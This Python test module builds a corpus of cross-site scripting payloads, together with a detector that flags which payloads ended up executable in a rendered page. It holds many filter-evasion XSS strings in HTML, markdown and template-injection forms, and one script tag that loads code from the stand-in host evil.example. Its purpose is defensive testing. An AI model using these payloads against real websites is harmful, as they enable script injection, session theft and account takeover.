"""An XSS corpus (issue 19, deliverable 2) and a detector of what would run in a page.

Every payload carries the marker MARK in the part that would execute (the script's text, the
handler, the URL), so that the detector flags the payload and never the page's own markup: a
payload shown as text is harmless, one that became an element, an event handler or a
`javascript:` URL is a hole.
"""

import html
import re
from html.parser import HTMLParser

MARK = "xss19"
JS = f"alert('{MARK}')"

ELEMENTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<script/src=data:,{JS}></script>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<img src=x:alert(1) onerror=eval(src)//{MARK}>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>x</text></a></svg>',
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<math href="javascript:{JS}">click</math>',
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="javascript:{JS}">',
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}>",
    f"<textarea autofocus onfocus={JS}>",
    f"<video><source onerror={JS}>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>",
    f'<div style="background:url(javascript:{JS})">',
    f'<div style="width:expression({JS})">',
    f'<a href="javascript:{JS}">click</a>',
    f'<a href="JaVaScRiPt:{JS}">click</a>',
    f'<a href="&#106;avascript:{JS}">click</a>',
    f'<a href="&#x6A;avascript:{JS}">click</a>',
    f'<a href="java&#x09;script:{JS}">click</a>',
    f"<a href=\"vbscript:msgbox('{MARK}')\">click</a>",
    f'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={MARK}">click</a>',
    f'<form action="javascript:{JS}"><button>go</button></form>',
    f'<button formaction="javascript:{JS}">go</button>',
    f'<base href="javascript:{JS}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<link rel=stylesheet href="javascript:{JS}">',
    f"<style>@import 'javascript:{JS}';</style>",
    f"<isindex action=javascript:{JS} type=image>",
    f'<table background="javascript:{JS}">',
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<template><script>{JS}</script></template>",
    f"<xss onpointerover={JS}>hover",
    f"<<script>{JS};//<</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<img src=`x` onerror=`{JS}`>",
    f'<img """><script>{JS}</script>">',
    f'<IMG SRC="jav\tascript:{JS};">',
    f'<IMG SRC=" &#14;  javascript:{JS};">',
]

ATTRIBUTE_BREAKERS = [
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f'" autofocus onfocus="{JS}" x="',
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"javascript:{JS}",
    f"JAVASCRIPT:{JS}",
    f" javascript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    f"vbscript:msgbox('{MARK}')",
]

MARKDOWN = [
    f"[click](javascript:{JS})",
    f"[click](JAVASCRIPT:{JS})",
    f"[click]( javascript:{JS} )",
    f"[click](<javascript:{JS}>)",
    f"[click](&#106;avascript:{JS})",
    f"[click](javascript&#58;{JS})",
    f"[click](java%0ascript:{JS})",
    f"[click](vbscript:msgbox('{MARK}'))",
    f"[click](data:text/html;base64,PHNjcmlwdD4={MARK})",
    f"![img](javascript:{JS})",
    f'![img](x" onerror="{JS})',
    f'![img" onerror="{JS}](x)',
    f'[a](x "title" onmouseover="{JS}")',
    f"[a][r]\n\n[r]: javascript:{JS}",
    f"<javascript:{JS}>",
    f'<http://x.example/" onmouseover="{JS}>',
    f"`<script>{JS}</script>`",
    f"```\n<script>{JS}</script>\n```",
    f"> <img src=x onerror={JS}>",
    f"| a |\n|---|\n| <img src=x onerror={JS}> |",
    f"**<script>{JS}</script>**",
    f"[<img src=x onerror={JS}>](http://x.example)",
    f'[x](http://x.example/"><script>{JS}</script>)',
    f'<a href="http://x.example" onclick="{JS}">x</a>',
    f'[x](#" onclick="{JS})',
]

TEMPLATES = [
    "{{ 'xss19tpl'|upper }}",
    "{% templatetag openvariable %} 'xss19tpl'|upper {% templatetag closevariable %}",
    "{% load static %}{% static 'xss19tpl' %}",
    "${'xss19tpl'.toUpperCase()}",
    "{{constructor.constructor('alert(\"xss19\")')()}}",
    "{{7*7}}xss19tpl",
    "#{'xss19tpl'}",
]
TEMPLATE_LEAKS = ("XSS19TPL", "/static/xss19tpl")


def _variants(payload):
    """The payload as is, entity-encoded, URL-encoded, with a NUL, and upper-cased tags."""
    yield payload
    yield html.escape(payload)  # entities that a double decoding would revive
    yield payload.replace("<", "%3C").replace(">", "%3E")
    yield payload.replace("<", "<\x00")
    yield re.sub(r"<(/?)([a-z]+)", lambda m: f"<{m.group(1)}{m.group(2).upper()}", payload)


def payloads():
    corpus = []
    for payload in ELEMENTS + ATTRIBUTE_BREAKERS + MARKDOWN:
        for variant in _variants(payload):
            if variant not in corpus:
                corpus.append(variant)
    # Written straight into the database by the tests: PostgreSQL refuses NUL in text (forms refuse
    # it too, see the fuzz pass), so a payload's NUL bytes are dropped, its other bytes kept.
    return [payload.replace("\x00", "") for payload in corpus + TEMPLATES]


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background",
                  "poster", "srcdoc", "lowsrc", "dynsrc"}  # fmt: skip
# Elements that load or run what their URL points to, whatever its scheme.
LOADING_ELEMENTS = {"script", "iframe", "object", "embed", "base", "link", "frame", "applet"}
SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)


class _Detector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings = []
        self._stack = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)
        if tag in ("script", "style"):
            self._stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_endtag(self, tag):
        if self._stack and self._stack[-1] == tag:
            self._stack.pop()

    def handle_data(self, data):
        if self._stack and MARK in data:
            self.findings.append(f"{MARK} inside <{self._stack[-1]}>: {data[:80]!r}")

    def _check(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            value = value or ""
            if MARK not in value and MARK not in name:
                continue
            plain = re.sub(r"[\x00-\x20]", "", value)  # the parser decoded the entities
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=…{MARK}…>")
            elif name in URL_ATTRIBUTES and (SCHEME.match(plain) or tag in LOADING_ELEMENTS):
                self.findings.append(f"<{tag} {name}={value[:60]!r}>")
            elif name == "style" and ("expression(" in plain or "javascript:" in plain):
                self.findings.append(f"<{tag} style={value[:60]!r}>")
            elif tag == "meta" and "http-equiv" in attributes and name == "content":
                self.findings.append(f"<meta http-equiv content={value[:60]!r}>")


def injections(page):
    """What in an HTML page a payload of the corpus turned into something that could run."""
    detector = _Detector()
    detector.feed(page)
    detector.close()
    findings = list(detector.findings)
    findings += [f"template evaluated: {leak}" for leak in TEMPLATE_LEAKS if leak in page]
    return findings
